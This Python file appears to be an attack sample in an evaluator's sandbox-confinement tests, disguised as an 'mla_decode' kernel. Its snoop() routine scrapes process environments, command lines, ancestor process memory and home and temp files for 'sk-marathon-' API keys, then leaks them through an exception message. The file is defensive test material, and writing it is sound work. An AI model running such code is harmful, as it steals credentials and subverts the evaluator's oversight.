"""Secrets: reads every /proc/*/environ and cmdline it can, the memory of every process above it
(judge, worker), and every file under the worker's folders, HOME and the temp dir, hunting for
anything shaped like a key (sk-marathon-...), and leaks what it found through an exception message
(which lands in the verdict). Defence: statically rejected (os); with the static policy skipped, the
judge's environment is an allowlist of the worker's, the worker and the judge are non-dumpable and the
sandbox holds no capabilities, so their /proc files and memory stay shut; Landlock's read allowlist
leaves /proc unlistable and the worker's folders, HOME and the temp dir unreadable. Expected: rejected;
run-time (tests/kernels/evaluator/test_confinement.py): crashed, the worker's key in no verdict."""
import os
import re
import stat
import time

import torch  # noqa: F401  (a candidate module as any other; it never launches a kernel)

KEY = re.compile(rb"sk-marathon-[A-Za-z0-9-]{8,}")
ROOTS = "@ROOTS@".split(os.pathsep)  # the test fills in the worker's folders
BUDGET_S = 10.0  # seconds of file walking


def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return None


def _ancestors():
    pids, pid = [], os.getpid()
    while pid > 1:
        stat = _read(f"/proc/{pid}/stat") or b""
        try:
            pid = int(stat[stat.rindex(b")") + 2:].split()[1])
        except (ValueError, IndexError):
            break
        pids.append(pid)
    return pids


def _memory(pid, cap=256 << 20):
    """Every readable mapping of the process, as far as /proc/<pid>/mem lets us."""
    maps = _read(f"/proc/{pid}/maps", 1 << 24)
    if maps is None:
        return None
    try:
        mem = open(f"/proc/{pid}/mem", "rb")
    except OSError:
        return None
    chunks, total = [], 0
    with mem:
        for line in maps.splitlines():
            parts = line.split()
            if len(parts) < 2 or not parts[1].startswith(b"r"):
                continue
            lo, hi = (int(x, 16) for x in parts[0].split(b"-"))
            if total + hi - lo > cap:
                continue
            try:
                mem.seek(lo)
                chunks.append(mem.read(hi - lo))
                total += hi - lo
            except (OSError, ValueError, OverflowError):
                continue
    return b"".join(chunks)


def snoop():
    found, counts, t0 = {}, {"environ": 0, "cmdline": 0, "mem": 0, "files": 0}, time.monotonic()

    def look(data, where):
        for key in KEY.findall(data):
            found.setdefault(key.decode(), where)

    try:
        pids = sorted(filter(str.isdigit, os.listdir("/proc")), key=int)
    except OSError:  # reads fenced: /proc is not listable
        counts["proc"] = "unlistable"
        pids = [str(p) for p in _ancestors()]
    for pid in pids:
        for what in ("environ", "cmdline"):
            data = _read(f"/proc/{pid}/{what}")
            if data is not None:
                counts[what] += 1
                look(data, f"/proc/{pid}/{what}")
    for pid in _ancestors():
        data = _memory(pid)
        if data is not None:
            counts["mem"] += 1
            look(data, f"/proc/{pid}/mem")
        if os.path.isdir(f"/proc/{pid}/cwd"):  # the worker's working folder, if its /proc is open
            ROOTS.append(f"/proc/{pid}/cwd")
    ROOTS.extend([os.path.expanduser("~"), "/tmp", "/root"])
    for root in ROOTS:
        for folder, dirs, files in os.walk(root):
            if time.monotonic() - t0 > BUDGET_S:
                break
            dirs[:] = [d for d in dirs if d not in (".git", ".venv", "proc", "sys", "node_modules")]
            for name in files:
                if time.monotonic() - t0 > BUDGET_S:  # a folder of many files ends the walk too
                    break
                path = os.path.join(folder, name)
                try:
                    if not stat.S_ISREG(os.lstat(path).st_mode):  # a FIFO would hold the search for ever
                        continue
                except OSError:
                    continue
                data = _read(path)
                if data is not None:
                    counts["files"] += 1
                    look(data, path)
    return found, counts


def mla_decode(q, kv, scale):
    found, counts = snoop()
    raise RuntimeError(f"snooped {counts}; keys found: {found}")
